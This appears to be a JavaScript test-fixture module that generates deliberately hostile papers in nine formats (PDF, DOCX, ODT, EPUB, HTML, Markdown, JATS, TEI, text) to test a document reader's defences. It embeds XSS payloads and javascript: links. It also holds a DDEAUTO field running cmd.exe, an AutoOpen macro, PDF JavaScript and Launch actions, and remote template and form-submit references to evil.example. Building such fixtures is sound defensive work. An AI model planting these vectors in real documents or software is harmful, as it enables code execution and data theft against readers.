// Papers that are hostile throughout: each format with every vector in every place that holds words, names or addresses.
import { strToU8, zipSync } from 'fflate';

/** Characters that XML 1.0 cannot hold. */
const outside =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/gu;
const signs = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
  '\n': '&#10;',
  '\t': '&#9;',
  '\r': '&#13;',
};
const xml = (text) => text.replace(outside, '').replace(/[&<>"'\n\t\r]/gu, (sign) => signs[sign]);

/** Ends whatever a vector has left open, so that the next one is not swallowed. */
const closing =
  '--></script></style></title></textarea></xmp></noscript></noembed></noframes></iframe></template></select></option></svg></math></table></form></object></video></audio></a>';

const pick = (list, at) => list[((at % list.length) + list.length) % list.length];
const zip = (files) =>
  Buffer.from(
    zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)]))),
  );
const file = (name, mimeType, content) => ({ name, mimeType, buffer: Buffer.from(content) });

const html = (texts, title) => {
  const raw = texts.filter((text) => !/plaintext|<frameset|<body|<html|<head/iu.test(text));
  return `<!doctype html><html lang="en"><head><title>${xml(title)}</title><meta name="author" content="${xml(title)}">
<meta name="citation_title" content="${xml(title)}"><meta name="citation_pdf_url" content="javascript:alert(1)">
<script type="application/ld+json">{"@type":"Article","headline":${JSON.stringify(title).replace(/</gu, '\\u003c')},"url":"javascript:alert(1)"}</script></head>
<body><article><h1>${xml(title)}</h1><h2>Words</h2>
${texts.map((text, at) => `<p>${xml(text)} <b title="${xml(text)}" id="${xml(text)}">so ${at}</b>.</p>`).join('\n')}
<h2>Marked</h2>
${raw.map((text, at) => `<p>Raw ${at} ${text}${closing}</p>`).join('\n')}
<figure><img src="http://evil.example/f.png" alt="${xml(title)}" onerror="alert(1)"><figcaption>${xml(title)}</figcaption></figure>
<ol>${texts.map((text, at) => `<li id="n${at}">${xml(text)} <a href="#r${at}">↩</a></li>`).join('')}</ol>
<p>Notes.${texts.map((_, at) => `<sup><a id="r${at}" href="#n${at}">${at + 1}</a></sup>`).join(' and ')}</p></article></body></html>`;
};

const jats = (texts, addresses, title, raw = '') =>
  `<?xml version="1.0"?><article xmlns:xlink="http://www.w3.org/1999/xlink" xml:lang="en"><front><journal-meta><journal-title-group><journal-title>${xml(title)}</journal-title></journal-title-group></journal-meta><article-meta><article-id pub-id-type="doi">10.1000/${xml(title)}</article-id><title-group><article-title>${xml(title)}</article-title></title-group><contrib-group><contrib contrib-type="author"><name><surname>${xml(title)}</surname><given-names>${xml(title)}</given-names></name></contrib></contrib-group><self-uri xlink:href="javascript:alert(1)"/></article-meta></front><body><sec id="${xml(title)}"><title>${xml(title)}</title>
${texts.map((text, at) => `<p id="${xml(text)}">${xml(text)}<xref ref-type="fn" rid="fn${at}">${at + 1}</xref></p>`).join('\n')}
${addresses.map((href) => `<p><ext-link ext-link-type="uri" xlink:href="${xml(href)}">Go</ext-link> <email xlink:href="${xml(href)}">a@b.example</email></p>`).join('\n')}
<fig><label>1</label><caption><p>${xml(title)}</p></caption><graphic xlink:href="http://evil.example/x.png"/></fig>${raw}</sec></body>
<back><fn-group>${texts.map((text, at) => `<fn id="fn${at}"><label>${at + 1}</label><p>${xml(text)}</p></fn>`).join('')}</fn-group></back></article>`;

const tei = (texts, addresses, title) =>
  `<?xml version="1.0"?><TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title>${xml(title)}</title><author>${xml(title)}</author></titleStmt><publicationStmt><p>x</p></publicationStmt><sourceDesc><p>x</p></sourceDesc></fileDesc></teiHeader><text><body><div><head>${xml(title)}</head>
${texts.map((text, at) => `<p xml:id="p${at}" rend="${xml(text)}">${xml(text)}<note n="${xml(text).slice(0, 8)}">${xml(text)}</note></p>`).join('\n')}
${addresses.map((href) => `<p><ref target="${xml(href)}">Go</ref><graphic url="${xml(href)}"/></p>`).join('\n')}</div></body></text></TEI>`;

const word =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const run = (text) => `<w:r><w:t xml:space="preserve">${xml(text)}</w:t></w:r>`;

function docx(texts, addresses, title) {
  const field = (code) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${xml(code)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('field')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const relation = (id, kind, target, isOutside = true) =>
    `<Relationship Id="${id}" Type="${kinds}/${kind}" Target="${xml(target)}"${isOutside ? ' TargetMode="External"' : ''}/>`;
  return zip({
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('r1', 'officeDocument', 'word/document.xml', false)}</Relationships>`,
    'docProps/core.xml': `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${xml(title)}</dc:title><dc:creator>${xml(title)}</dc:creator></cp:coreProperties>`,
    'word/document.xml': `<w:document ${word}><w:body>${texts
      .map(
        (text, at) =>
          `<w:p><w:pPr><w:pStyle w:val="${xml(text)}"/></w:pPr>${run(text)}<w:r><w:footnoteReference w:id="${at + 2}"/></w:r></w:p>`,
      )
      .join('')}${addresses
      .map(
        (href, at) =>
          `<w:p><w:hyperlink r:id="l${at}">${run('link')}</w:hyperlink></w:p>${field(` HYPERLINK "${href}" `)}`,
      )
      .join(
        '',
      )}${field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')}${field(' INCLUDEPICTURE "http://evil.example/p.png" ')}${field(' INCLUDETEXT "http://evil.example/t.docx" ')}<w:altChunk r:id="chunk"/><w:sectPr/></w:body></w:document>`,
    'word/footnotes.xml': `<w:footnotes ${word}>${texts.map((text, at) => `<w:footnote w:id="${at + 2}"><w:p>${run(text)}</w:p></w:footnote>`).join('')}</w:footnotes>`,
    'word/settings.xml': `<w:settings ${word}><w:attachedTemplate r:id="t1"/></w:settings>`,
    'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('t1', 'attachedTemplate', 'http://evil.example/t.dotm')}</Relationships>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${addresses.map((href, at) => relation(`l${at}`, 'hyperlink', href)).join('')}${relation('chunk', 'aFChunk', 'chunk.html', false)}${relation('o', 'oleObject', 'http://evil.example/o')}${relation('v', 'vbaProject', 'vbaProject.bin', false)}${relation('f', 'footnotes', 'footnotes.xml', false)}</Relationships>`,
    'word/chunk.html': '<script>alert(1)</script><img src=x onerror=alert(1)>',
    'word/vbaProject.bin': 'Sub AutoOpen()\nShell "calc"\nEnd Sub',
  });
}

function odt(texts, addresses, title) {
  const spaces =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"';
  return zip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'META-INF/manifest.xml': '<manifest/>',
    'meta.xml': `<office:document-meta ${spaces}><office:meta><dc:title>${xml(title)}</dc:title><meta:initial-creator>${xml(title)}</meta:initial-creator></office:meta></office:document-meta>`,
    'content.xml': `<office:document-content ${spaces}><office:scripts><office:script script:language="JavaScript">alert(1)</office:script><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="javascript:alert(1)"/></office:event-listeners></office:scripts><office:body><office:text>${texts
      .map(
        (text, at) =>
          `<text:p>${xml(text)}<text:note text:id="f${at}" text:note-class="footnote"><text:note-citation>${at + 1}</text:note-citation><text:note-body><text:p>${xml(text)}</text:p></text:note-body></text:note></text:p>`,
      )
      .join(
        '',
      )}${addresses.map((href) => `<text:p><text:a xlink:href="${xml(href)}">link</text:a><draw:frame><draw:image xlink:href="${xml(href)}"/><draw:object xlink:href="${xml(href)}"/></draw:frame></text:p>`).join('')}</office:text></office:body></office:document-content>`,
  });
}

const epub = (texts, addresses, title) =>
  zip({
    mimetype: 'application/epub+zip',
    'META-INF/container.xml':
      '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    'b.opf': `<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${xml(title)}</dc:title><dc:creator>${xml(title)}</dc:creator><dc:language>en</dc:language></metadata><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml" properties="scripted"/><item id="n" href="n.xhtml" media-type="application/xhtml+xml" properties="nav"/><item id="x" href="http://evil.example/c.xhtml" media-type="application/xhtml+xml"/><item id="s" href="s.js" media-type="text/javascript"/></manifest><spine><itemref idref="c"/><itemref idref="x"/></spine></package>`,
    'n.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body><nav epub:type="toc"><ol><li><a href="javascript:alert(1)">${xml(title)}</a></li></ol></nav></body></html>`,
    's.js': 'alert(1)',
    'c.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>${xml(title)}</title><script src="s.js"></script><script>alert(1)</script><link rel="stylesheet" href="http://evil.example/x.css"/></head><body onload="alert(1)"><h1>${xml(title)}</h1>${texts
      .map((text) => `<p onclick="alert(1)">${xml(text)}</p>`)
      .join(
        '',
      )}${addresses.map((href) => `<p><a href="${xml(href)}">link</a><img src="${xml(href)}" alt="x"/></p>`).join('')}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="http://evil.example/i.png"/></svg></body></html>`,
  });

const markdown = (texts, title) =>
  `---\ntitle: ${JSON.stringify(title)}\nauthor: ${JSON.stringify(title)}\nurl: "javascript:alert(1)"\n---\n\n# ${title.replace(/\s+/gu, ' ')}\n\n${texts
    .map((text, at) => `Words ${at}[^n${at}] ${text}\n\n</x>\n\n- ${text.replace(/\n/gu, ' ')}\n`)
    .join('\n')}\n\n${texts.map((text, at) => `[^n${at}]: ${text.replace(/\n/gu, ' ')}`).join('\n')}\n`;

const plain = (texts, title) =>
  `${title}\n\nBy Eve\n\n${texts.map((text, at) => `Paragraph ${at} says this.${at + 1} ${text}`).join('\n\n')}\n\nNotes\n\n${texts.map((text, at) => `${at + 1}. ${text.replace(/\s+/gu, ' ')}`).join('\n')}\n`;

/** A PDF whose text, metadata, outline, links, actions and attachments are hostile. */
function pdf(texts, addresses, title) {
  const objects = [];
  const add = (body) => objects.push(body);
  const said = (text) => `(${text.replace(/[^\x20-\x7E]/gu, '?').replace(/[\\()]/gu, '\\$&')})`;
  add(
    '<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\);alert\\(1\\)) >> /AA << /WC << /S /JavaScript /JS (alert\\(1\\)) >> >> /URI << /Base (http://evil.example/) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (alert\\(1\\)) >>] >> /EmbeddedFiles << /Names [(x.html) << /Type /Filespec /F (x.html) /EF << /F 6 0 R >> >>] >> >> /AcroForm << /XFA 6 0 R /Fields [] >> >>',
  );
  const pages = [];
  objects.push('pages', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>');
  objects.push('<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>');
  add(`<< /Title ${said(title)} /Parent 4 0 R /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>`);
  add('<< /Type /EmbeddedFile /Length 25 >>\nstream\n<script>alert(1)</script>\nendstream');
  const each = 30;
  for (let from = 0; from < Math.max(texts.length, addresses.length); from += each) {
    const lines = texts.slice(from, from + each).map((text) => `${said(text.slice(0, 120))} Tj T*`);
    const content = `BT /F1 10 Tf 14 TL 60 760 Td (Words of a hostile text, page ${from}.) Tj T*\n${lines.join('\n')}\nET`;
    const links = addresses
      .slice(from, from + each)
      .map(
        (href, at) =>
          `<< /Type /Annot /Subtype /Link /Rect [60 ${740 - at * 14} 300 ${752 - at * 14}] /A << /S /URI /URI ${said(href)} >> >>`,
      );
    links.push('<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>');
    links.push(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example/) >> >>',
    );
    links.push(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >> >>',
    );
    links.push(
      `<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents ${said(title)} /RC ${said('<script>alert(1)</script>')} >>`,
    );
    const at = objects.length;
    add(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
    add(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${at + 1} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [${links.join(' ')}] /AA << /O << /S /JavaScript /JS (alert\\(1\\)) >> >> >>`,
    );
    pages.push(`${at + 2} 0 R`);
  }
  objects[1] = `<< /Type /Pages /Kids [${pages.join(' ')}] /Count ${pages.length} >>`;
  add(`<< /Title ${said(title)} /Author ${said(title)} /Subject ${said(title)} /Keywords ${said(title)} >>`);
  let out = '%PDF-1.7\n';
  const places = objects.map((body, at) => {
    const place = out.length;
    out += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return place;
  });
  const start = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.from(
    `${out}trailer << /Size ${objects.length + 1} /Root 1 0 R /Info ${objects.length} 0 R >>\nstartxref\n${start}\n%%EOF\n`,
    'latin1',
  );
}

/** Vectors of elements, with a line end inside where a format would end its paragraph at an empty line. */
const oneLine = (text) => text.replace(/\s*\n\s*/gu, ' ');

/**
 * One paper of each format that Warrant reads, in which every vector stands in text, notes, names and addresses; `turn`
 * chooses which of them is the title.
 */
export function hostilePapers(vectors, addresses, turn = 0) {
  const titles = vectors.filter((text) => text.length < 150 && /[<:]/u.test(text)).map(oneLine);
  const title = (at) =>
    `${'pdf docx odt epub html markdown jats tei plain'.split(' ')[at]} ${pick(titles, turn * 9 + at)}`;
  const lines = vectors.map(oneLine);
  return [
    file('hostile.pdf', 'application/pdf', pdf(lines, addresses, title(0))),
    file('hostile.docx', '', docx(vectors, addresses, title(1))),
    file('hostile.odt', '', odt(vectors, addresses, title(2))),
    file('hostile.epub', '', epub(vectors, addresses, title(3))),
    file('hostile.html', 'text/html', html(vectors, title(4))),
    file('hostile.md', 'text/markdown', markdown(vectors, title(5))),
    file('hostile-jats.xml', 'text/xml', jats(vectors, addresses, title(6))),
    file('hostile-tei.xml', 'text/xml', tei(vectors, addresses, title(7))),
    file('hostile.txt', 'text/plain', plain(lines, title(8))),
  ];
}

/** A page in which a vector stands raw; `<plaintext>` and its like swallow all that comes after, so each has one of its own. */
export const hostilePage = (vector) =>
  `<article><h1>Raw</h1><p>Words before, and so many that they are a text.</p>${vector}${closing}<p>Words after.</p></article>`;

/** JATS that holds elements of other languages where words should be. */
export const mixedJats = (vectors, addresses) =>
  jats(
    vectors.slice(0, 3),
    addresses,
    'Mixed',
    '<p><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg><html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/><inline-graphic xlink:href="javascript:alert(1)"/><mml:math xmlns:mml="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mml:mtext>x</mml:mtext></mml:math></p><disp-formula><alternatives><html:iframe xmlns:html="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></alternatives></disp-formula>',
  );
